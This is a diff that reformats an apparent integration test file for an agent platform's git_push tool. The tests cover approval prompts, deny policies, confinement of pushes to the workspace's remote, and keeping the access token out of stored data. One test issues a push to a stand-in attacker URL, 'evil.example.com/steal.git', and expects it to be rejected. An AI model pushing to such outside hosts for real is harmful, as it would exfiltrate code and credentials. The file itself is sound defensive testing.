@@ -8,7 +8,14 @@ import { mkdtempSync, readdirSync, readFileSync, lstatSync, rmSync, writeFileSyn
 import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { testDatabases, useTestDb } from "../../testing/db";
-import { startServer, spawnRunner, tempDir, waitFor, type RunnerChild, type TestServer } from "../../executors/runner/testing";
+import {
+  startServer,
+  spawnRunner,
+  tempDir,
+  waitFor,
+  type RunnerChild,
+  type TestServer,
+} from "../../executors/runner/testing";
 import { startGitServer, type GitServer } from "../../testing/git-server";
 import { call, newTurn, request, usePipelines } from "../../pipeline/harness";
 import { waitFor as waitSoon } from "../../pipeline/testkit";
@@ -27,7 +34,12 @@ let runner: RunnerChild;
 let ws: string;
 let dataDir: string;
 
-const gitIn = (args: string[]) => execFileSync("git", ["-c", "user.name=T", "-c", "user.email=t@example.com", ...args], { cwd: ws, encoding: "utf8", env: { ...process.env, GIT_CONFIG_GLOBAL: "/dev/null" } });
+const gitIn = (args: string[]) =>
+  execFileSync("git", ["-c", "user.name=T", "-c", "user.email=t@example.com", ...args], {
+    cwd: ws,
+    encoding: "utf8",
+    env: { ...process.env, GIT_CONFIG_GLOBAL: "/dev/null" },
+  });
 
 function holding(dir: string, needle: string): string[] {
   const out: string[] = [];
@@ -49,7 +61,11 @@ beforeAll(async () => {
   runner = spawnRunner({ url: server.url, workspace: ws });
   await waitFor(() => server.pool.status().some((r) => r.connected), 20_000, "runner to connect");
   const clone = await server.pool.run({
-    sessionId: "setup", callId: "clone", op: GIT_REMOTE_OP, deadline: Date.now() + 60_000, signal: new AbortController().signal,
+    sessionId: "setup",
+    callId: "clone",
+    op: GIT_REMOTE_OP,
+    deadline: Date.now() + 60_000,
+    signal: new AbortController().signal,
     input: { action: "clone", url: `${gs.url}/app.git`, credential: { username: "alice", token: TOKEN } },
   });
   expect(clone.ok).toBe(true);
@@ -71,10 +87,16 @@ describe.each(testDatabases())("git_push on %s", (provider) => {
     const db = t.current.db;
     const credentials = createGitCredentialService(db, loadCredentialKey(dataDir));
     const remote = createGitRemoteService({ db, runner: server.pool, credentials });
-    const h = setup({ tools: [gitPushTool], deps: { toolServices: (sessionId) => ({ git: gitToolService({ credentials, remote }, db, sessionId) }) } });
+    const h = setup({
+      tools: [gitPushTool],
+      deps: { toolServices: (sessionId) => ({ git: gitToolService({ credentials, remote }, db, sessionId) }) },
+    });
     return { h, credentials };
   }
-  const cards = (events: { event: SessionEventBody }[]) => events.filter((e) => e.event.type === "approval.required").map((e) => e.event as Extract<SessionEventBody, { type: "approval.required" }>);
+  const cards = (events: { event: SessionEventBody }[]) =>
+    events
+      .filter((e) => e.event.type === "approval.required")
+      .map((e) => e.event as Extract<SessionEventBody, { type: "approval.required" }>);
 
   it("asks, then pushes the committed branch with the owner's stored credential", async () => {
     const { h, credentials } = harness();
@@ -97,7 +119,9 @@ describe.each(testDatabases())("git_push on %s", (provider) => {
     const { h } = harness();
     const s = await newTurn(t.current);
     const before = gs.requests.length;
-    const out = await h.pipeline.dispatch(request(h, s, [call("git_push", { url: "https://evil.example.com/steal.git" })]));
+    const out = await h.pipeline.dispatch(
+      request(h, s, [call("git_push", { url: "https://evil.example.com/steal.git" })]),
+    );
     expect(out.results[0].isError).toBe(true);
     expect(out.results[0].content).toContain(`pushes only to this workspace's remote, ${remoteUrl()}`);
     expect(cards(h.events)).toHaveLength(0);
@@ -108,7 +132,9 @@ describe.each(testDatabases())("git_push on %s", (provider) => {
     const { h, credentials } = harness();
     const s = await newTurn(t.current, "admin");
     await credentials.save(s.actor, { host: gs.host, username: "alice", token: TOKEN });
-    await createPolicyService(t.current.db).set(s.actor, [{ effect: "deny", tool: "git_push", reason: "pushes go through review" }]);
+    await createPolicyService(t.current.db).set(s.actor, [
+      { effect: "deny", tool: "git_push", reason: "pushes go through review" },
+    ]);
     writeFileSync(join(ws, `denied-${provider}.txt`), "x\n");
     gitIn(["add", "-A"]);
     gitIn(["commit", "-qm", "should stay local"]);
@@ -124,8 +150,12 @@ describe.each(testDatabases())("git_push on %s", (provider) => {
   it("leaves the token in no stored row, event, log or workspace file", async () => {
     const db = t.current.db;
     const rows = JSON.stringify([
-      await db.sessionEvent.findMany(), await db.toolCall.findMany(), await db.approval.findMany(), await db.auditEvent.findMany(),
-      await db.spill.findMany(), await db.spillChunk.findMany().then((c) => c.map((x) => Buffer.from(x.bytes).toString("latin1"))),
+      await db.sessionEvent.findMany(),
+      await db.toolCall.findMany(),
+      await db.approval.findMany(),
+      await db.auditEvent.findMany(),
+      await db.spill.findMany(),
+      await db.spillChunk.findMany().then((c) => c.map((x) => Buffer.from(x.bytes).toString("latin1"))),
     ]);
     expect(rows).toContain("git.credential.saved");
     expect(rows).not.toContain(TOKEN);
